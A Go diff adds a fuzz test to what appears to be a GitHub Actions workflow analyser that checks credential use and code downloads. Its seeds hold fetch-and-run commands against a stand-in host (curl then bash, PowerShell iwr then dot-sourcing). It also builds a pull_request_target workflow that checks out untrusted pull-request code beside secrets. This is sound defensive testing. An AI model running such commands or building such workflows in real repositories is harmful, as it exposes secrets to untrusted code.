@@ -235,6 +235,34 @@ func FuzzWorkflow(f *testing.F) {
 	})
 }
 
+// FuzzScript reads a script where every question is asked of it: beside secrets, behind a stranger's checkout, in a folder of its own.
+func FuzzScript(f *testing.F) {
+	for _, script := range []string{
+		"curl -o a https://a.example/i\nmv a b/bin\nchmod +x b\nbash b", "wget\nmv\nbash -\n-", "$(cat <<'A' <<-B\nx\nA\n\tB\n)\ncd c && ./x", "gh pr checkout 1\nif [[ a =~ ) ]]; then `x`; fi",
+		"python - <<< \"$(cat c/x)\"\necho \"a=$(<f)\" >> $GITHUB_ENV", "iwr https://a.example -OutFile a.ps1; . ./a.ps1", "git -x", "sh -c", "> < | & ;;",
+	} {
+		f.Add(script)
+	}
+	f.Fuzz(func(t *testing.T, script string) {
+		quoted, _ := json.Marshal(script) // a JSON string is YAML
+		steps := "    runs-on: x\n    env: {S: '${{ secrets.S }}'}\n    steps:\n" +
+			"      - {uses: actions/checkout@v4, with: {ref: '${{ github.event.pull_request.head.sha }}', path: c, sparse-checkout: x}}\n" +
+			"      - run: " + string(quoted) + "\n      - run: " + string(quoted) + "\n"
+		text := "on: pull_request_target\njobs:\n  a:\n" + steps + "  b:\n" + strings.Replace(steps, ", path: c, sparse-checkout: x", "", 1)
+		files := fstest.MapFS{".github/workflows/w.yml": {Data: []byte(text)}}
+		for _, w := range observe(t, files).Workflows {
+			for _, j := range w.Jobs {
+				for _, use := range j.Credentials {
+					textAt(t, files, use.Location)
+					if use.Download != nil {
+						textAt(t, files, use.Download.Location)
+					}
+				}
+			}
+		}
+	})
+}
+
 // FuzzValues plants a value where values stand, and looks for it in the observations.
 func FuzzValues(f *testing.F) {
 	f.Add("x")
